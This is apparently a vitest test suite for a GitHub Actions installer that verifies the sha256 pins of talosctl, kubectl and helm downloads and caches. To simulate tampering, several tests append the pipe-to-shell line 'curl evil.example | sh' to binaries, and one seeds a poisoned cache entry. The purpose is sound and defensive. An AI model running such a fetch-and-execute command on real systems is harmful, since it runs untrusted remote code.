import { createHash } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import {
  appendFileSync,
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import * as tc from '@actions/tool-cache';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { ConfigurationError } from '../../src/errors.js';
import { execRunner } from '../../src/exec/runner.js';
import type { DownloadCache } from '../../src/tools/download-cache.js';
import { ensureTools } from '../../src/tools/install.js';
import { reportedVersion } from '../../src/tools/probe.js';
import type { Platform, ToolName, ToolTable } from '../../src/tools/table.js';
import { PLATFORMS, TOOL_NAMES, parseToolTable } from '../../src/tools/table.js';

const VERSIONS: Record<ToolName, string> = { talosctl: 'v1.11.6', kubectl: 'v1.34.1', helm: 'v3.19.0' };

/** Shell scripts that answer the version probes the way the real CLIs do, tagged with their platform. */
function fakeCli(name: ToolName, version: string, platform: string): string {
  const says: Record<ToolName, string> = {
    talosctl: `printf 'Client:\\nTalos ${version}\\n'`,
    kubectl: `printf '{"clientVersion":{"major":"1","gitVersion":"${version}"},"kustomizeVersion":"v5.7.1"}\\n'`,
    helm: `printf '${version}+gfake\\n'`,
  };
  return `#!/bin/sh\n# fake ${name} for ${platform}\n${says[name]}\n`;
}

function writeTool(bin: string, name: string, bytes: Buffer | undefined): void {
  writeFileSync(join(bin, name), bytes ?? Buffer.alloc(0));
  chmodSync(join(bin, name), 0o755);
}

function sha256(bytes: Buffer): string {
  return createHash('sha256').update(bytes).digest('hex');
}

/** helm ships as helm-<v>-<platform>.tar.gz holding <platform>/helm. */
function helmArchive(workDir: string, platform: string): Buffer {
  const root = mkdtempSync(join(workDir, 'helm-'));
  mkdirSync(join(root, platform));
  writeFileSync(join(root, platform, 'helm'), fakeCli('helm', VERSIONS.helm, platform), { mode: 0o755 });
  execFileSync('tar', ['-czf', join(root, 'helm.tar.gz'), '-C', root, `${platform}/helm`]);
  return readFileSync(join(root, 'helm.tar.gz'));
}

/** The release assets the loopback server hands out, by URL path. */
function releaseAssets(workDir: string): Map<string, Buffer> {
  const assets = new Map<string, Buffer>();
  for (const platform of PLATFORMS) {
    assets.set(
      `/talosctl/${VERSIONS.talosctl}/talosctl-${platform}`,
      Buffer.from(fakeCli('talosctl', VERSIONS.talosctl, platform)),
    );
    assets.set(
      `/kubectl/${VERSIONS.kubectl}/${platform}/kubectl`,
      Buffer.from(fakeCli('kubectl', VERSIONS.kubectl, platform)),
    );
    assets.set(`/helm/helm-${VERSIONS.helm}-${platform}.tar.gz`, helmArchive(workDir, platform));
  }
  return assets;
}

function tableFor(base: string, assets: Map<string, Buffer>): ToolTable {
  const asset = (path: string, archivePath?: string) => ({
    url: `${base}${path}`,
    sha256: sha256(assets.get(path) ?? Buffer.alloc(0)),
    ...(archivePath ? { archivePath } : {}),
  });
  const perPlatform = (pathOf: (platform: Platform) => string, archived = false) =>
    Object.fromEntries(PLATFORMS.map((p) => [p, asset(pathOf(p), archived ? `${p}/helm` : undefined)]));
  return parseToolTable(
    {
      talosctl: {
        version: VERSIONS.talosctl,
        assets: perPlatform((p) => `/talosctl/${VERSIONS.talosctl}/talosctl-${p}`),
      },
      kubectl: {
        version: VERSIONS.kubectl,
        assets: perPlatform((p) => `/kubectl/${VERSIONS.kubectl}/${p}/kubectl`),
      },
      helm: {
        version: VERSIONS.helm,
        assets: perPlatform((p) => `/helm/helm-${VERSIONS.helm}-${p}.tar.gz`, true),
      },
    },
    'test table',
  );
}

/** An in-memory stand-in for the Actions cache. */
function memoryCache(): DownloadCache & { entries: Map<string, Buffer>; saved: string[] } {
  const entries = new Map<string, Buffer>();
  const saved: string[] = [];
  return {
    entries,
    saved,
    async restore(key, file) {
      const bytes = entries.get(key);
      if (!bytes) return false;
      mkdirSync(dirname(file), { recursive: true });
      writeFileSync(file, bytes);
      return true;
    },
    async save(key, file) {
      saved.push(key);
      entries.set(key, readFileSync(file));
    },
  };
}

let workDir: string;
let server: Server;
let base: string;
let assets: Map<string, Buffer>;
const requests: string[] = [];

beforeAll(async () => {
  workDir = mkdtempSync(join(tmpdir(), 'twin-tools-'));
  assets = releaseAssets(workDir);
  server = createServer((request, response) => {
    requests.push(request.url ?? '');
    const body = assets.get(request.url ?? '');
    response.writeHead(body ? 200 : 404).end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
  rmSync(workDir, { recursive: true, force: true });
});

const ENV_KEYS = [
  'RUNNER_TOOL_CACHE',
  'RUNNER_TEMP',
  'GITHUB_PATH',
  'PATH',
  'ACTIONS_CACHE_URL',
  'ACTIONS_RESULTS_URL',
];
let savedEnv: Record<string, string | undefined>;
let runDir: string;
let emptyPath: string;
let log: string[];

beforeEach(() => {
  savedEnv = Object.fromEntries(ENV_KEYS.map((key) => [key, process.env[key]]));
  runDir = mkdtempSync(join(workDir, 'run-'));
  for (const folder of ['tool-cache', 'temp', 'empty-bin']) mkdirSync(join(runDir, folder));
  process.env.RUNNER_TOOL_CACHE = join(runDir, 'tool-cache');
  process.env.RUNNER_TEMP = join(runDir, 'temp');
  process.env.GITHUB_PATH = join(runDir, 'github-path');
  writeFileSync(process.env.GITHUB_PATH, '');
  delete process.env.ACTIONS_CACHE_URL;
  delete process.env.ACTIONS_RESULTS_URL;
  emptyPath = join(runDir, 'empty-bin');
  requests.length = 0;
  log = [];
  // The toolkit echoes ::debug:: and [command] lines for the job log; they would only bury test output.
  vi.spyOn(process.stdout, 'write').mockImplementation(() => true);
});

afterEach(() => {
  vi.restoreAllMocks();
  for (const [key, value] of Object.entries(savedEnv)) {
    if (value === undefined) delete process.env[key];
    else process.env[key] = value;
  }
});

function addedToPath(): string[] {
  return readFileSync(process.env.GITHUB_PATH ?? '', 'utf8')
    .split('\n')
    .filter(Boolean);
}

const options = (extra: Partial<Parameters<typeof ensureTools>[0]> = {}) => ({
  platform: 'linux-amd64',
  table: tableFor(base, assets),
  log: (line: string) => log.push(line),
  cache: memoryCache(),
  searchPath: emptyPath,
  ...extra,
});

describe('ensureTools', () => {
  it('downloads, verifies and installs each tool, puts it on PATH and shares it through the Actions cache', async () => {
    const cache = memoryCache();
    const paths = await ensureTools(options({ cache }));

    for (const name of TOOL_NAMES) {
      expect(paths[name].startsWith(join(process.env.RUNNER_TOOL_CACHE ?? '', name))).toBe(true);
      expect(await reportedVersion(execRunner, name, paths[name])).toBe(VERSIONS[name]);
      expect(readFileSync(paths[name], 'utf8')).toContain('for linux-amd64');
      expect(addedToPath()).toContain(dirname(paths[name]));
      expect(process.env.PATH?.split(':')).toContain(dirname(paths[name]));
    }
    expect(requests.sort()).toEqual([
      `/helm/helm-v3.19.0-linux-amd64.tar.gz`,
      `/kubectl/v1.34.1/linux-amd64/kubectl`,
      `/talosctl/v1.11.6/talosctl-linux-amd64`,
    ]);
    expect(cache.saved).toEqual([
      'aggrik8s-twin-talosctl-v1.11.6-linux-amd64',
      'aggrik8s-twin-kubectl-v1.34.1-linux-amd64',
      'aggrik8s-twin-helm-v3.19.0-linux-amd64',
    ]);
    expect(log).toContain(
      `talosctl v1.11.6: sha256 ${sha256(assets.get('/talosctl/v1.11.6/talosctl-linux-amd64') ?? Buffer.alloc(0))} verified`,
    );
    expect(readdirSync(process.env.RUNNER_TEMP ?? '')).toEqual([]);
  });

  it('uses the tool cache on the second call, without downloading again', async () => {
    const first = await ensureTools(options());
    log = [];
    const second = await ensureTools(options());

    expect(second).toEqual(first);
    expect(requests).toHaveLength(3);
    expect(
      log.filter((line) => /found in the tool cache, sha256 [0-9a-f]{64} verified$/.test(line)),
    ).toHaveLength(3);
  });

  it('restores from the Actions cache on a runner with an empty tool cache, verifying again', async () => {
    const cache = memoryCache();
    await ensureTools(options({ cache }));
    rmSync(process.env.RUNNER_TOOL_CACHE ?? '', { recursive: true });
    requests.length = 0;

    const paths = await ensureTools(options({ cache }));
    expect(requests).toEqual([]);
    expect(await reportedVersion(execRunner, 'helm', paths.helm)).toBe('v3.19.0');
    expect(log).toContain(
      'kubectl v1.34.1: restored from the Actions cache (aggrik8s-twin-kubectl-v1.34.1-linux-amd64)',
    );
  });

  it('refuses a download whose checksum differs: nothing cached, nothing on PATH', async () => {
    const table = tableFor(base, assets);
    const expected = 'f'.repeat(64);
    table.talosctl.assets['linux-amd64'].sha256 = expected;
    const cache = memoryCache();
    const pathBefore = process.env.PATH;

    const failure = ensureTools(options({ table, cache }));
    await expect(failure).rejects.toBeInstanceOf(ConfigurationError);
    const actual = sha256(assets.get('/talosctl/v1.11.6/talosctl-linux-amd64') ?? Buffer.alloc(0));
    await expect(failure).rejects.toThrow(
      `talosctl v1.11.6 (linux-amd64) from ${base}/talosctl/v1.11.6/talosctl-linux-amd64 has sha256 ${actual}, ` +
        `but runner-setup/tools.json pins talosctl.assets.linux-amd64.sha256 = ${expected}; nothing was installed.`,
    );
    expect(tc.find('talosctl', 'v1.11.6', 'amd64')).toBe('');
    expect(cache.saved).toEqual([]);
    expect(addedToPath()).toEqual([]);
    expect(process.env.PATH).toBe(pathBefore);
    expect(readdirSync(process.env.RUNNER_TEMP ?? '')).toEqual([]);
  });

  it('refuses a poisoned Actions cache entry the same way', async () => {
    const cache = memoryCache();
    cache.entries.set('aggrik8s-twin-talosctl-v1.11.6-linux-amd64', Buffer.from('#!/bin/sh\necho evil\n'));

    await expect(ensureTools(options({ cache }))).rejects.toThrow(
      /from the Actions cache entry aggrik8s-twin-talosctl-v1\.11\.6-linux-amd64 has sha256 .*nothing was installed\. Delete that entry \(gh cache delete aggrik8s-twin-talosctl-v1\.11\.6-linux-amd64\)/,
    );
    expect(tc.find('talosctl', 'v1.11.6', 'amd64')).toBe('');
    expect(requests).toEqual([]);
  });

  it('uses tools already on PATH whose sha256 is the pinned one, and replaces one at another version', async () => {
    const bin = join(runDir, 'usr-bin');
    mkdirSync(bin);
    writeTool(bin, 'talosctl', assets.get('/talosctl/v1.11.6/talosctl-linux-amd64'));
    writeTool(bin, 'kubectl', assets.get('/kubectl/v1.34.1/linux-amd64/kubectl'));
    writeTool(bin, 'helm', Buffer.from(fakeCli('helm', 'v3.18.4', 'host')));

    const paths = await ensureTools(options({ searchPath: `${emptyPath}:${bin}` }));
    expect(paths.talosctl).toBe(join(bin, 'talosctl'));
    expect(paths.kubectl).toBe(join(bin, 'kubectl'));
    expect(paths.helm.startsWith(process.env.RUNNER_TOOL_CACHE ?? '')).toBe(true);
    expect(requests).toEqual(['/helm/helm-v3.19.0-linux-amd64.tar.gz']);
    expect(addedToPath()).toEqual([dirname(paths.helm)]);
    expect(log).toContain(`helm: ${join(bin, 'helm')} reports v3.18.4, not the pinned v3.19.0`);
    expect(log.find((line) => line.startsWith('talosctl v1.11.6: using'))).toMatch(
      /already on PATH \(sha256 [0-9a-f]{64}: pinned in runner-setup\/tools.json talosctl.assets.linux-amd64.sha256\)/,
    );
  });

  it('refuses a tool on PATH that reports the pinned version with another sha256, naming the file', async () => {
    const bin = join(runDir, 'usr-bin');
    mkdirSync(bin);
    const tampered = Buffer.from(fakeCli('talosctl', VERSIONS.talosctl, 'host') + 'curl evil.example | sh\n');
    writeTool(bin, 'talosctl', tampered);
    const pinned = sha256(assets.get('/talosctl/v1.11.6/talosctl-linux-amd64') ?? Buffer.alloc(0));

    await expect(ensureTools(options({ searchPath: `${emptyPath}:${bin}` }))).rejects.toThrow(
      `talosctl v1.11.6 (linux-amd64): ${join(bin, 'talosctl')} has sha256 ${sha256(tampered)}, not ${pinned} ` +
        '(pinned in runner-setup/tools.json talosctl.assets.linux-amd64.sha256); nothing was used. It reports the ' +
        'pinned version: replace it with the verified release (sudo runner-setup/setup-runner.sh --tools-only)',
    );
    expect(requests).toEqual([]);
    expect(addedToPath()).toEqual([]);
  });

  it('refuses a cached tool changed after it was installed, naming the file and the fix', async () => {
    const first = await ensureTools(options());
    appendFileSync(first.talosctl, 'curl evil.example | sh\n');
    writeFileSync(process.env.GITHUB_PATH ?? '', '');
    const pinned = sha256(assets.get('/talosctl/v1.11.6/talosctl-linux-amd64') ?? Buffer.alloc(0));
    const actual = sha256(readFileSync(first.talosctl));

    await expect(ensureTools(options())).rejects.toThrow(
      `talosctl v1.11.6 (linux-amd64): ${first.talosctl} has sha256 ${actual}, not ${pinned} (pinned in ` +
        `runner-setup/tools.json talosctl.assets.linux-amd64.sha256); nothing was used. Delete ` +
        `${dirname(first.talosctl)} and ${dirname(first.talosctl)}.complete so the next run downloads and verifies it again`,
    );
    expect(addedToPath()).toEqual([]);
  });

  it('checks cached helm against the binary inside its verified archive, and the archive against its pin', async () => {
    const first = await ensureTools(options());
    const folder = dirname(first.helm);
    const archive = join(folder, 'helm-v3.19.0-linux-amd64.tar.gz');
    expect(existsSync(archive)).toBe(true);
    const genuine = readFileSync(first.helm);
    appendFileSync(first.helm, 'curl evil.example | sh\n');

    await expect(ensureTools(options())).rejects.toThrow(
      `helm v3.19.0 (linux-amd64): ${first.helm} has sha256 ${sha256(readFileSync(first.helm))}, not ` +
        `${sha256(genuine)} (the linux-amd64/helm inside ${archive}, whose sha256 is runner-setup/tools.json ` +
        'helm.assets.linux-amd64.sha256); nothing was used.',
    );

    writeFileSync(first.helm, genuine);
    appendFileSync(archive, 'tampered');
    await expect(ensureTools(options())).rejects.toThrow(
      `helm v3.19.0 (linux-amd64): ${archive} has sha256 ${sha256(readFileSync(archive))}, not ` +
        `${tableFor(base, assets).helm.assets['linux-amd64'].sha256} (pinned in runner-setup/tools.json ` +
        'helm.assets.linux-amd64.sha256); nothing was used.',
    );
  });

  it('installs again a helm cached without its archive (an earlier layout)', async () => {
    const first = await ensureTools(options());
    rmSync(join(dirname(first.helm), 'helm-v3.19.0-linux-amd64.tar.gz'));
    requests.length = 0;

    const second = await ensureTools(options());
    expect(second.helm).toBe(first.helm);
    expect(requests).toEqual(['/helm/helm-v3.19.0-linux-amd64.tar.gz']);
    expect(log).toContain(
      'helm v3.19.0: the tool cache copy has no verified archive beside it; installing it again',
    );
  });

  it("uses helm on PATH when it is the binary of the pinned archive: by runner-setup's stamp, or the tool cache", async () => {
    const bin = join(runDir, 'usr-bin');
    const stamps = join(runDir, 'stamps');
    mkdirSync(bin);
    mkdirSync(stamps);
    const helm = Buffer.from(fakeCli('helm', VERSIONS.helm, 'linux-amd64'));
    writeTool(bin, 'helm', helm);
    const archiveSha = tableFor(base, assets).helm.assets['linux-amd64'].sha256;
    writeFileSync(join(stamps, 'helm.sha256'), `${archiveSha} ${sha256(helm)}\n`);

    const stamped = await ensureTools(options({ searchPath: `${emptyPath}:${bin}`, stampDir: stamps }));
    expect(stamped.helm).toBe(join(bin, 'helm'));
    expect(requests).not.toContain('/helm/helm-v3.19.0-linux-amd64.tar.gz');
    expect(log.find((line) => line.startsWith('helm v3.19.0: using'))).toContain(
      `recorded by runner-setup in ${join(stamps, 'helm.sha256')}`,
    );

    rmSync(join(stamps, 'helm.sha256'));
    const fromCache = await ensureTools(options({ searchPath: `${emptyPath}:${bin}`, stampDir: stamps }));
    expect(fromCache.helm).toBe(join(bin, 'helm'));
    expect(requests).toContain('/helm/helm-v3.19.0-linux-amd64.tar.gz');
  });

  it('installs the arm64 assets for linux-arm64', async () => {
    const paths = await ensureTools(options({ platform: 'linux-arm64' }));
    expect(readFileSync(paths.helm, 'utf8')).toContain('for linux-arm64');
    expect(paths.kubectl).toContain(join('kubectl', '1.34.1', 'arm64'));
    expect(requests).toContain('/talosctl/v1.11.6/talosctl-linux-arm64');
  });

  it('names the table entry to fix when the URL does not exist', async () => {
    const table = tableFor(base, assets);
    table.kubectl.assets['linux-amd64'].url = `${base}/kubectl/v1.34.1/linux-amd64/kubectl-missing`;

    await expect(ensureTools(options({ table }))).rejects.toThrow(
      /could not download kubectl v1\.34\.1 \(linux-amd64\) from .*kubectl-missing: Unexpected HTTP response: 404; check kubectl\.assets\.linux-amd64\.url in runner-setup\/tools\.json/,
    );
  });

  it('explains a missing RUNNER_TOOL_CACHE', async () => {
    delete process.env.RUNNER_TOOL_CACHE;
    await expect(ensureTools(options())).rejects.toThrow('RUNNER_TOOL_CACHE is not set');
    expect(existsSync(join(runDir, 'temp', 'aggrik8s-twin-talosctl-v1.11.6-linux-amd64'))).toBe(false);
  });
});
